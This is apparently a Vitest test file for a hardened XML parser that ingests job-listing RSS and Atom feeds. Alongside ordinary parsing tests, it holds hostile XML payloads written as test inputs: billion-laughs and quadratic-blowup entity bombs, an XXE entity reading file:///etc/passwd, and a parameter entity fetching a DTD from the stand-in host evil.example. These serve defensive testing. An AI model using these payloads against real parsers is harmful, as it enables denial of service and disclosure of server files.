import { describe, expect, it } from 'vitest'

import { IngestError } from '../ingest-types.ts'
import { parseXml } from './safe-xml.ts'

function malformedError(run: () => unknown): IngestError {
  try {
    run()
  } catch (error) {
    expect(error).toBeInstanceOf(IngestError)
    expect((error as IngestError).code).toBe('malformed')
    return error as IngestError
  }
  throw new Error('expected parseXml to throw')
}

const WPJM_FEED = `<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/xsl" href="feed.xsl"?>
<rss version="2.0"
  xmlns:content="http://purl.org/rss/1.0/modules/content/"
  xmlns:dc="http://purl.org/dc/elements/1.1/"
  xmlns:job_listing="https://jobs.example.co.zw">
  <channel>
    <title>Jobs &amp; Careers</title>
    <item>
      <title>Accountant &#8211; Harare</title>
      <link>https://jobs.example.co.zw/job/accountant/</link>
      <guid isPermaLink="false">https://jobs.example.co.zw/?post_type=job_listing&amp;p=007</guid>
      <pubDate>Tue, 10 Nov 2026 08:00:00 +0000</pubDate>
      <dc:creator><![CDATA[admin]]></dc:creator>
      <description><![CDATA[<p>We are hiring &amp; growing.</p>]]></description>
      <content:encoded><![CDATA[<p>Full <b>description</b> with <a href="https://x.co/?a=1&amp;b=2">link</a>.</p>]]></content:encoded>
      <job_listing:location><![CDATA[Harare]]></job_listing:location>
      <job_listing:job_type><![CDATA[Full Time]]></job_listing:job_type>
      <job_listing:company><![CDATA[Delta Beverages]]></job_listing:company>
    </item>
    <item>
      <title>  Driver  </title>
      <link>https://jobs.example.co.zw/job/driver/</link>
      <job_listing:salary>007</job_listing:salary>
    </item>
  </channel>
</rss>`

describe('parseXml', () => {
  it('parses a WP Job Manager feed: namespaced tags, CDATA, attributes, strings only', () => {
    const parsed = parseXml(WPJM_FEED) as {
      rss: {
        '@_version': string
        channel: { title: string; item: Record<string, unknown>[] }
      }
    }
    expect(parsed.rss['@_version']).toBe('2.0')
    expect(parsed.rss.channel.title).toBe('Jobs & Careers')
    const [first, second] = parsed.rss.channel.item
    expect(first).toMatchObject({
      title: 'Accountant – Harare',
      link: 'https://jobs.example.co.zw/job/accountant/',
      guid: {
        '#text': 'https://jobs.example.co.zw/?post_type=job_listing&p=007',
        '@_isPermaLink': 'false',
      },
      pubDate: 'Tue, 10 Nov 2026 08:00:00 +0000',
      'dc:creator': 'admin',
      // CDATA is taken as written: its entities are for the HTML step to decode.
      description: '<p>We are hiring &amp; growing.</p>',
      'content:encoded':
        '<p>Full <b>description</b> with <a href="https://x.co/?a=1&amp;b=2">link</a>.</p>',
      'job_listing:location': 'Harare',
      'job_listing:job_type': 'Full Time',
      'job_listing:company': 'Delta Beverages',
    })
    // Values stay strings ("007" is not 7) and are trimmed.
    expect(second).toMatchObject({ title: 'Driver', 'job_listing:salary': '007' })
  })

  it('gives one element as an object and repeated ones as an array', () => {
    const one = parseXml('<rss><channel><item><title>A</title></item></channel></rss>') as {
      rss: { channel: { item: unknown } }
    }
    expect(Array.isArray(one.rss.channel.item)).toBe(false)
    const two = parseXml('<urlset><url><loc>a</loc></url><url><loc>b</loc></url></urlset>') as {
      urlset: { url: unknown }
    }
    expect(two.urlset.url).toEqual([{ loc: 'a' }, { loc: 'b' }])
  })

  it('decodes the predefined entities and character references in text and attributes', () => {
    const parsed = parseXml(
      '<a t="&quot;x&quot; &amp; &#39;y&#39;">&lt;b&gt; &amp; &quot;q&quot; &apos;s&apos; &#65;&#x42;&#x4a; &#128512;</a>',
    ) as { a: { '#text': string; '@_t': string } }
    expect(parsed.a['#text']).toBe('<b> & "q" \'s\' ABJ 😀')
    expect(parsed.a['@_t']).toBe('"x" & \'y\'')
  })

  it('decodes each reference once: "&amp;lt;" is the text "&lt;"', () => {
    expect(parseXml('<a>&amp;lt;b&amp;gt;</a>')).toEqual({ a: '&lt;b&gt;' })
  })

  it('leaves undeclared and invalid references as written', () => {
    expect(parseXml('<a>&nbsp;x&#0;&#xD800;</a>')).toEqual({ a: '&nbsp;x&#0;&#xD800;' })
  })

  it('keeps namespaced attributes and Atom links', () => {
    const parsed = parseXml(
      '<feed xmlns="http://www.w3.org/2005/Atom"><entry><link rel="alternate" href="https://x.co/1"/><title type="html">A &amp;amp; B</title></entry></feed>',
    ) as { feed: { entry: { link: Record<string, string>; title: Record<string, string> } } }
    expect(parsed.feed.entry.link).toEqual({ '@_rel': 'alternate', '@_href': 'https://x.co/1' })
    expect(parsed.feed.entry.title).toEqual({ '#text': 'A &amp; B', '@_type': 'html' })
  })

  it('accepts a byte order mark and a DOCTYPE without entity declarations', () => {
    const rss091 =
      '\uFEFF<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel><title>T</title></channel></rss>'
    expect(parseXml(rss091)).toMatchObject({ rss: { channel: { title: 'T' } } })
  })

  it('refuses a billion-laughs document quickly, without expanding anything', () => {
    const lol = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ELEMENT lolz (#PCDATA)>
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>`
    const started = performance.now()
    const error = malformedError(() => parseXml(lol))
    expect(performance.now() - started).toBeLessThan(200)
    expect(error.message).toMatch(/entities/i)
    expect(error.message.length).toBeLessThan(200)
  })

  it('refuses a quadratic-blowup document quickly', () => {
    const big = 'x'.repeat(50_000)
    const quadratic = `<?xml version="1.0"?><!DOCTYPE kaboom [<!ENTITY a "${big}">]><kaboom>${'&a;'.repeat(50_000)}</kaboom>`
    const started = performance.now()
    malformedError(() => parseXml(quadratic))
    expect(performance.now() - started).toBeLessThan(200)
  })

  it('refuses an entity declared after a "]" that hides it from the quick check', () => {
    // The "]" inside the comment ends the quick DOCTYPE scan early; the parser still reports the
    // declaration, and nothing is expanded either way.
    const hidden = '<!DOCTYPE x [<!-- ] --><!ENTITY b "boom">]><x>&b;</x>'
    expect(malformedError(() => parseXml(hidden)).message).toMatch(/entities/)
  })

  it('refuses external entities and parameter entities', () => {
    malformedError(() =>
      parseXml('<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>'),
    )
    malformedError(() =>
      parseXml('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><x>a</x>'),
    )
  })

  it.each([
    ['empty', ''],
    ['whitespace', '   \n'],
    ['not XML', 'not xml at all'],
    ['an HTML error page', '<!DOCTYPE html><html><body><p>Oops<br></body></html>'],
    ['mismatched tags', '<rss><channel></rss>'],
    ['unclosed', '<rss><channel><item>'],
    ['a bare ampersand', '<a>Q&A</a>'],
    ['two roots', '<a></a><b></b>'],
    ['a JSON body', '{"jobs":[]}'],
  ])('throws a short malformed error for %s', (_name, xml) => {
    const error = malformedError(() => parseXml(xml))
    expect(error.message).toMatch(/^Malformed XML: /)
    expect(error.message.length).toBeLessThan(300)
  })

  it('is quick on many DOCTYPE openings', () => {
    const started = performance.now()
    malformedError(() => parseXml(`<!DOCTYPE a[${'<!DOCTYPE a['.repeat(80_000)}`))
    expect(performance.now() - started).toBeLessThan(1000)
  })

  it('is quick on a large ordinary feed', () => {
    const item =
      '<item><title>Job &amp; more</title><link>https://x.co/j</link><description><![CDATA[<p>text</p>]]></description></item>'
    const feed = `<rss><channel>${item.repeat(5_000)}</channel></rss>`
    const started = performance.now()
    const parsed = parseXml(feed) as { rss: { channel: { item: unknown[] } } }
    expect(parsed.rss.channel.item).toHaveLength(5_000)
    // Generous: test files run in parallel; a blow-up would take far longer.
    expect(performance.now() - started).toBeLessThan(5000)
  })
})
